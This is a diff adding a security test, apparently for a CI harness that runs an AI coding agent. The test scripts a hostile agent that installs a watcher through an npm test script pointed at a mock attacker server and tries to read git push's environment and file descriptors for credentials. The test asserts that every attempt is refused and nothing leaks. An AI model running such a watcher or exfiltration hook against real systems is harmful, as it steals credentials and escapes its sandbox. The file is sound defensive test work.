@@ -15,6 +15,7 @@ import {
   bash,
   readFile as readTool,
   say,
+  stall,
   writeFile,
   type ModelScript,
 } from '../harness/model/index.js'
@@ -234,6 +235,60 @@ describe('a hostile npm test run by verify', () => {
       expect(run.outputs.conclusion).toBe('success')
       // The daemon it left behind was killed before the push, and is gone.
       expect(await processesRunning(path.join(world.checkout.workspace, 'daemon.cjs'))).toBe(0)
+    },
+  )
+})
+
+describe('a hostile agent that watches for the checkpoint push', () => {
+  itWhenIsolationIsPossible(
+    'sees the push go by and reaches no credential through it',
+    async () => {
+      attacker = await startAttacker()
+      const file = (name: string) => path.join(world!.checkout.workspace, name)
+      let built: ReturnType<typeof steps> | undefined
+      const steps = () => [
+        writeFile(
+          file('watch.cjs'),
+          readFileSync(path.join(HOSTILE, 'checkpoint-watch.cjs'), 'utf8'),
+        ),
+        writeFile(
+          file('package.json'),
+          JSON.stringify({
+            name: 'victim',
+            private: true,
+            scripts: { test: `node watch.cjs ${attacker!.url}` },
+          }),
+        ),
+        bash('npm test'),
+        // Each write is followed by several checkpoint intervals, while the watcher looks on.
+        stall(2_000, writeFile(file('one.txt'), '1\n')),
+        stall(2_000, writeFile(file('two.txt'), '2\n')),
+        stall(2_000, say('Done.')),
+      ]
+      world = await createWorld({ script: ({ step }) => (built ??= steps())[step] })
+      const run = await world.run({
+        inputs: { allowed_tools: 'Read,Write,Edit,Bash(npm test:*)', checkpoint_minutes: '0.01' },
+        timeoutMs: 120_000,
+      })
+      expect(run.outputs.conclusion).toBe('success')
+      const received = attacker.received.filter((entry) =>
+        entry.startsWith('POST /checkpoint-watch'),
+      )
+      const all = received.join('\n')
+      // It ran as the agent's user, and it did see git push the checkpoints.
+      expect(all).toMatch(/watcher started as uid [1-9]\d*/)
+      const pushes = received.filter((entry) => /saw git \d+ \(uid: \d+\): .*\bpush\b/.test(entry))
+      expect(pushes.length).toBeGreaterThan(0)
+      expect(run.stdout).toMatch(/async-pr checkpoint: pushed/)
+      // Every door on each one was shut.
+      for (const entry of pushes) {
+        expect(entry).toMatch(/^environ refused: EACCES$/m)
+        expect(entry).toMatch(/^cwd refused: EACCES$/m)
+        expect(entry).toMatch(/^fds refused: EACCES$/m)
+      }
+      expect(leaks(all, secretForms(world))).toEqual([])
+      // And nothing of the push names a credential on its command line.
+      expect(all).not.toMatch(/AUTHORIZATION|extraheader|x-access-token/i)
     },
   )
 })
